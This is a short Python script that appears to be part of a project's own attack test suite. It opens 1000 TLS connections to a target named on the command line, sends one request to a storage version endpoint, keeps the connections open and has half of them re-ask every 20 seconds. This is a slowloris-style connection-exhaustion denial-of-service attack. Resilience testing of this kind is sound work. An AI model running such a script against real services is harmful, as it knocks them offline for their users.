"""Connections on which one request was refused, and which stay."""

from __future__ import annotations

import socket

from misc.attack.target import Crowd, Target, again_and_again, from_command_line

CONNECTIONS = 1000
REQUEST = b"GET /storage/v1/version HTTP/1.1\r\nHost: x\r\n\r\n"


def attack(target: Target) -> None:
    """Keep as many connections as there may be; half of them ask again every 20 s."""

    def make(number: int) -> socket.socket:
        connection = target.connect_tls()
        connection.sendall(REQUEST)
        return connection

    silent, asking = Crowd(make, CONNECTIONS // 2), Crowd(make, CONNECTIONS // 2)
    for turn in again_and_again(target, 0.01):
        (silent if turn % 2 else asking).fill()
        asking.say(REQUEST, 20.0)
        if not turn % 100:
            silent.forget_cut()


if __name__ == "__main__":
    attack(from_command_line(__doc__))
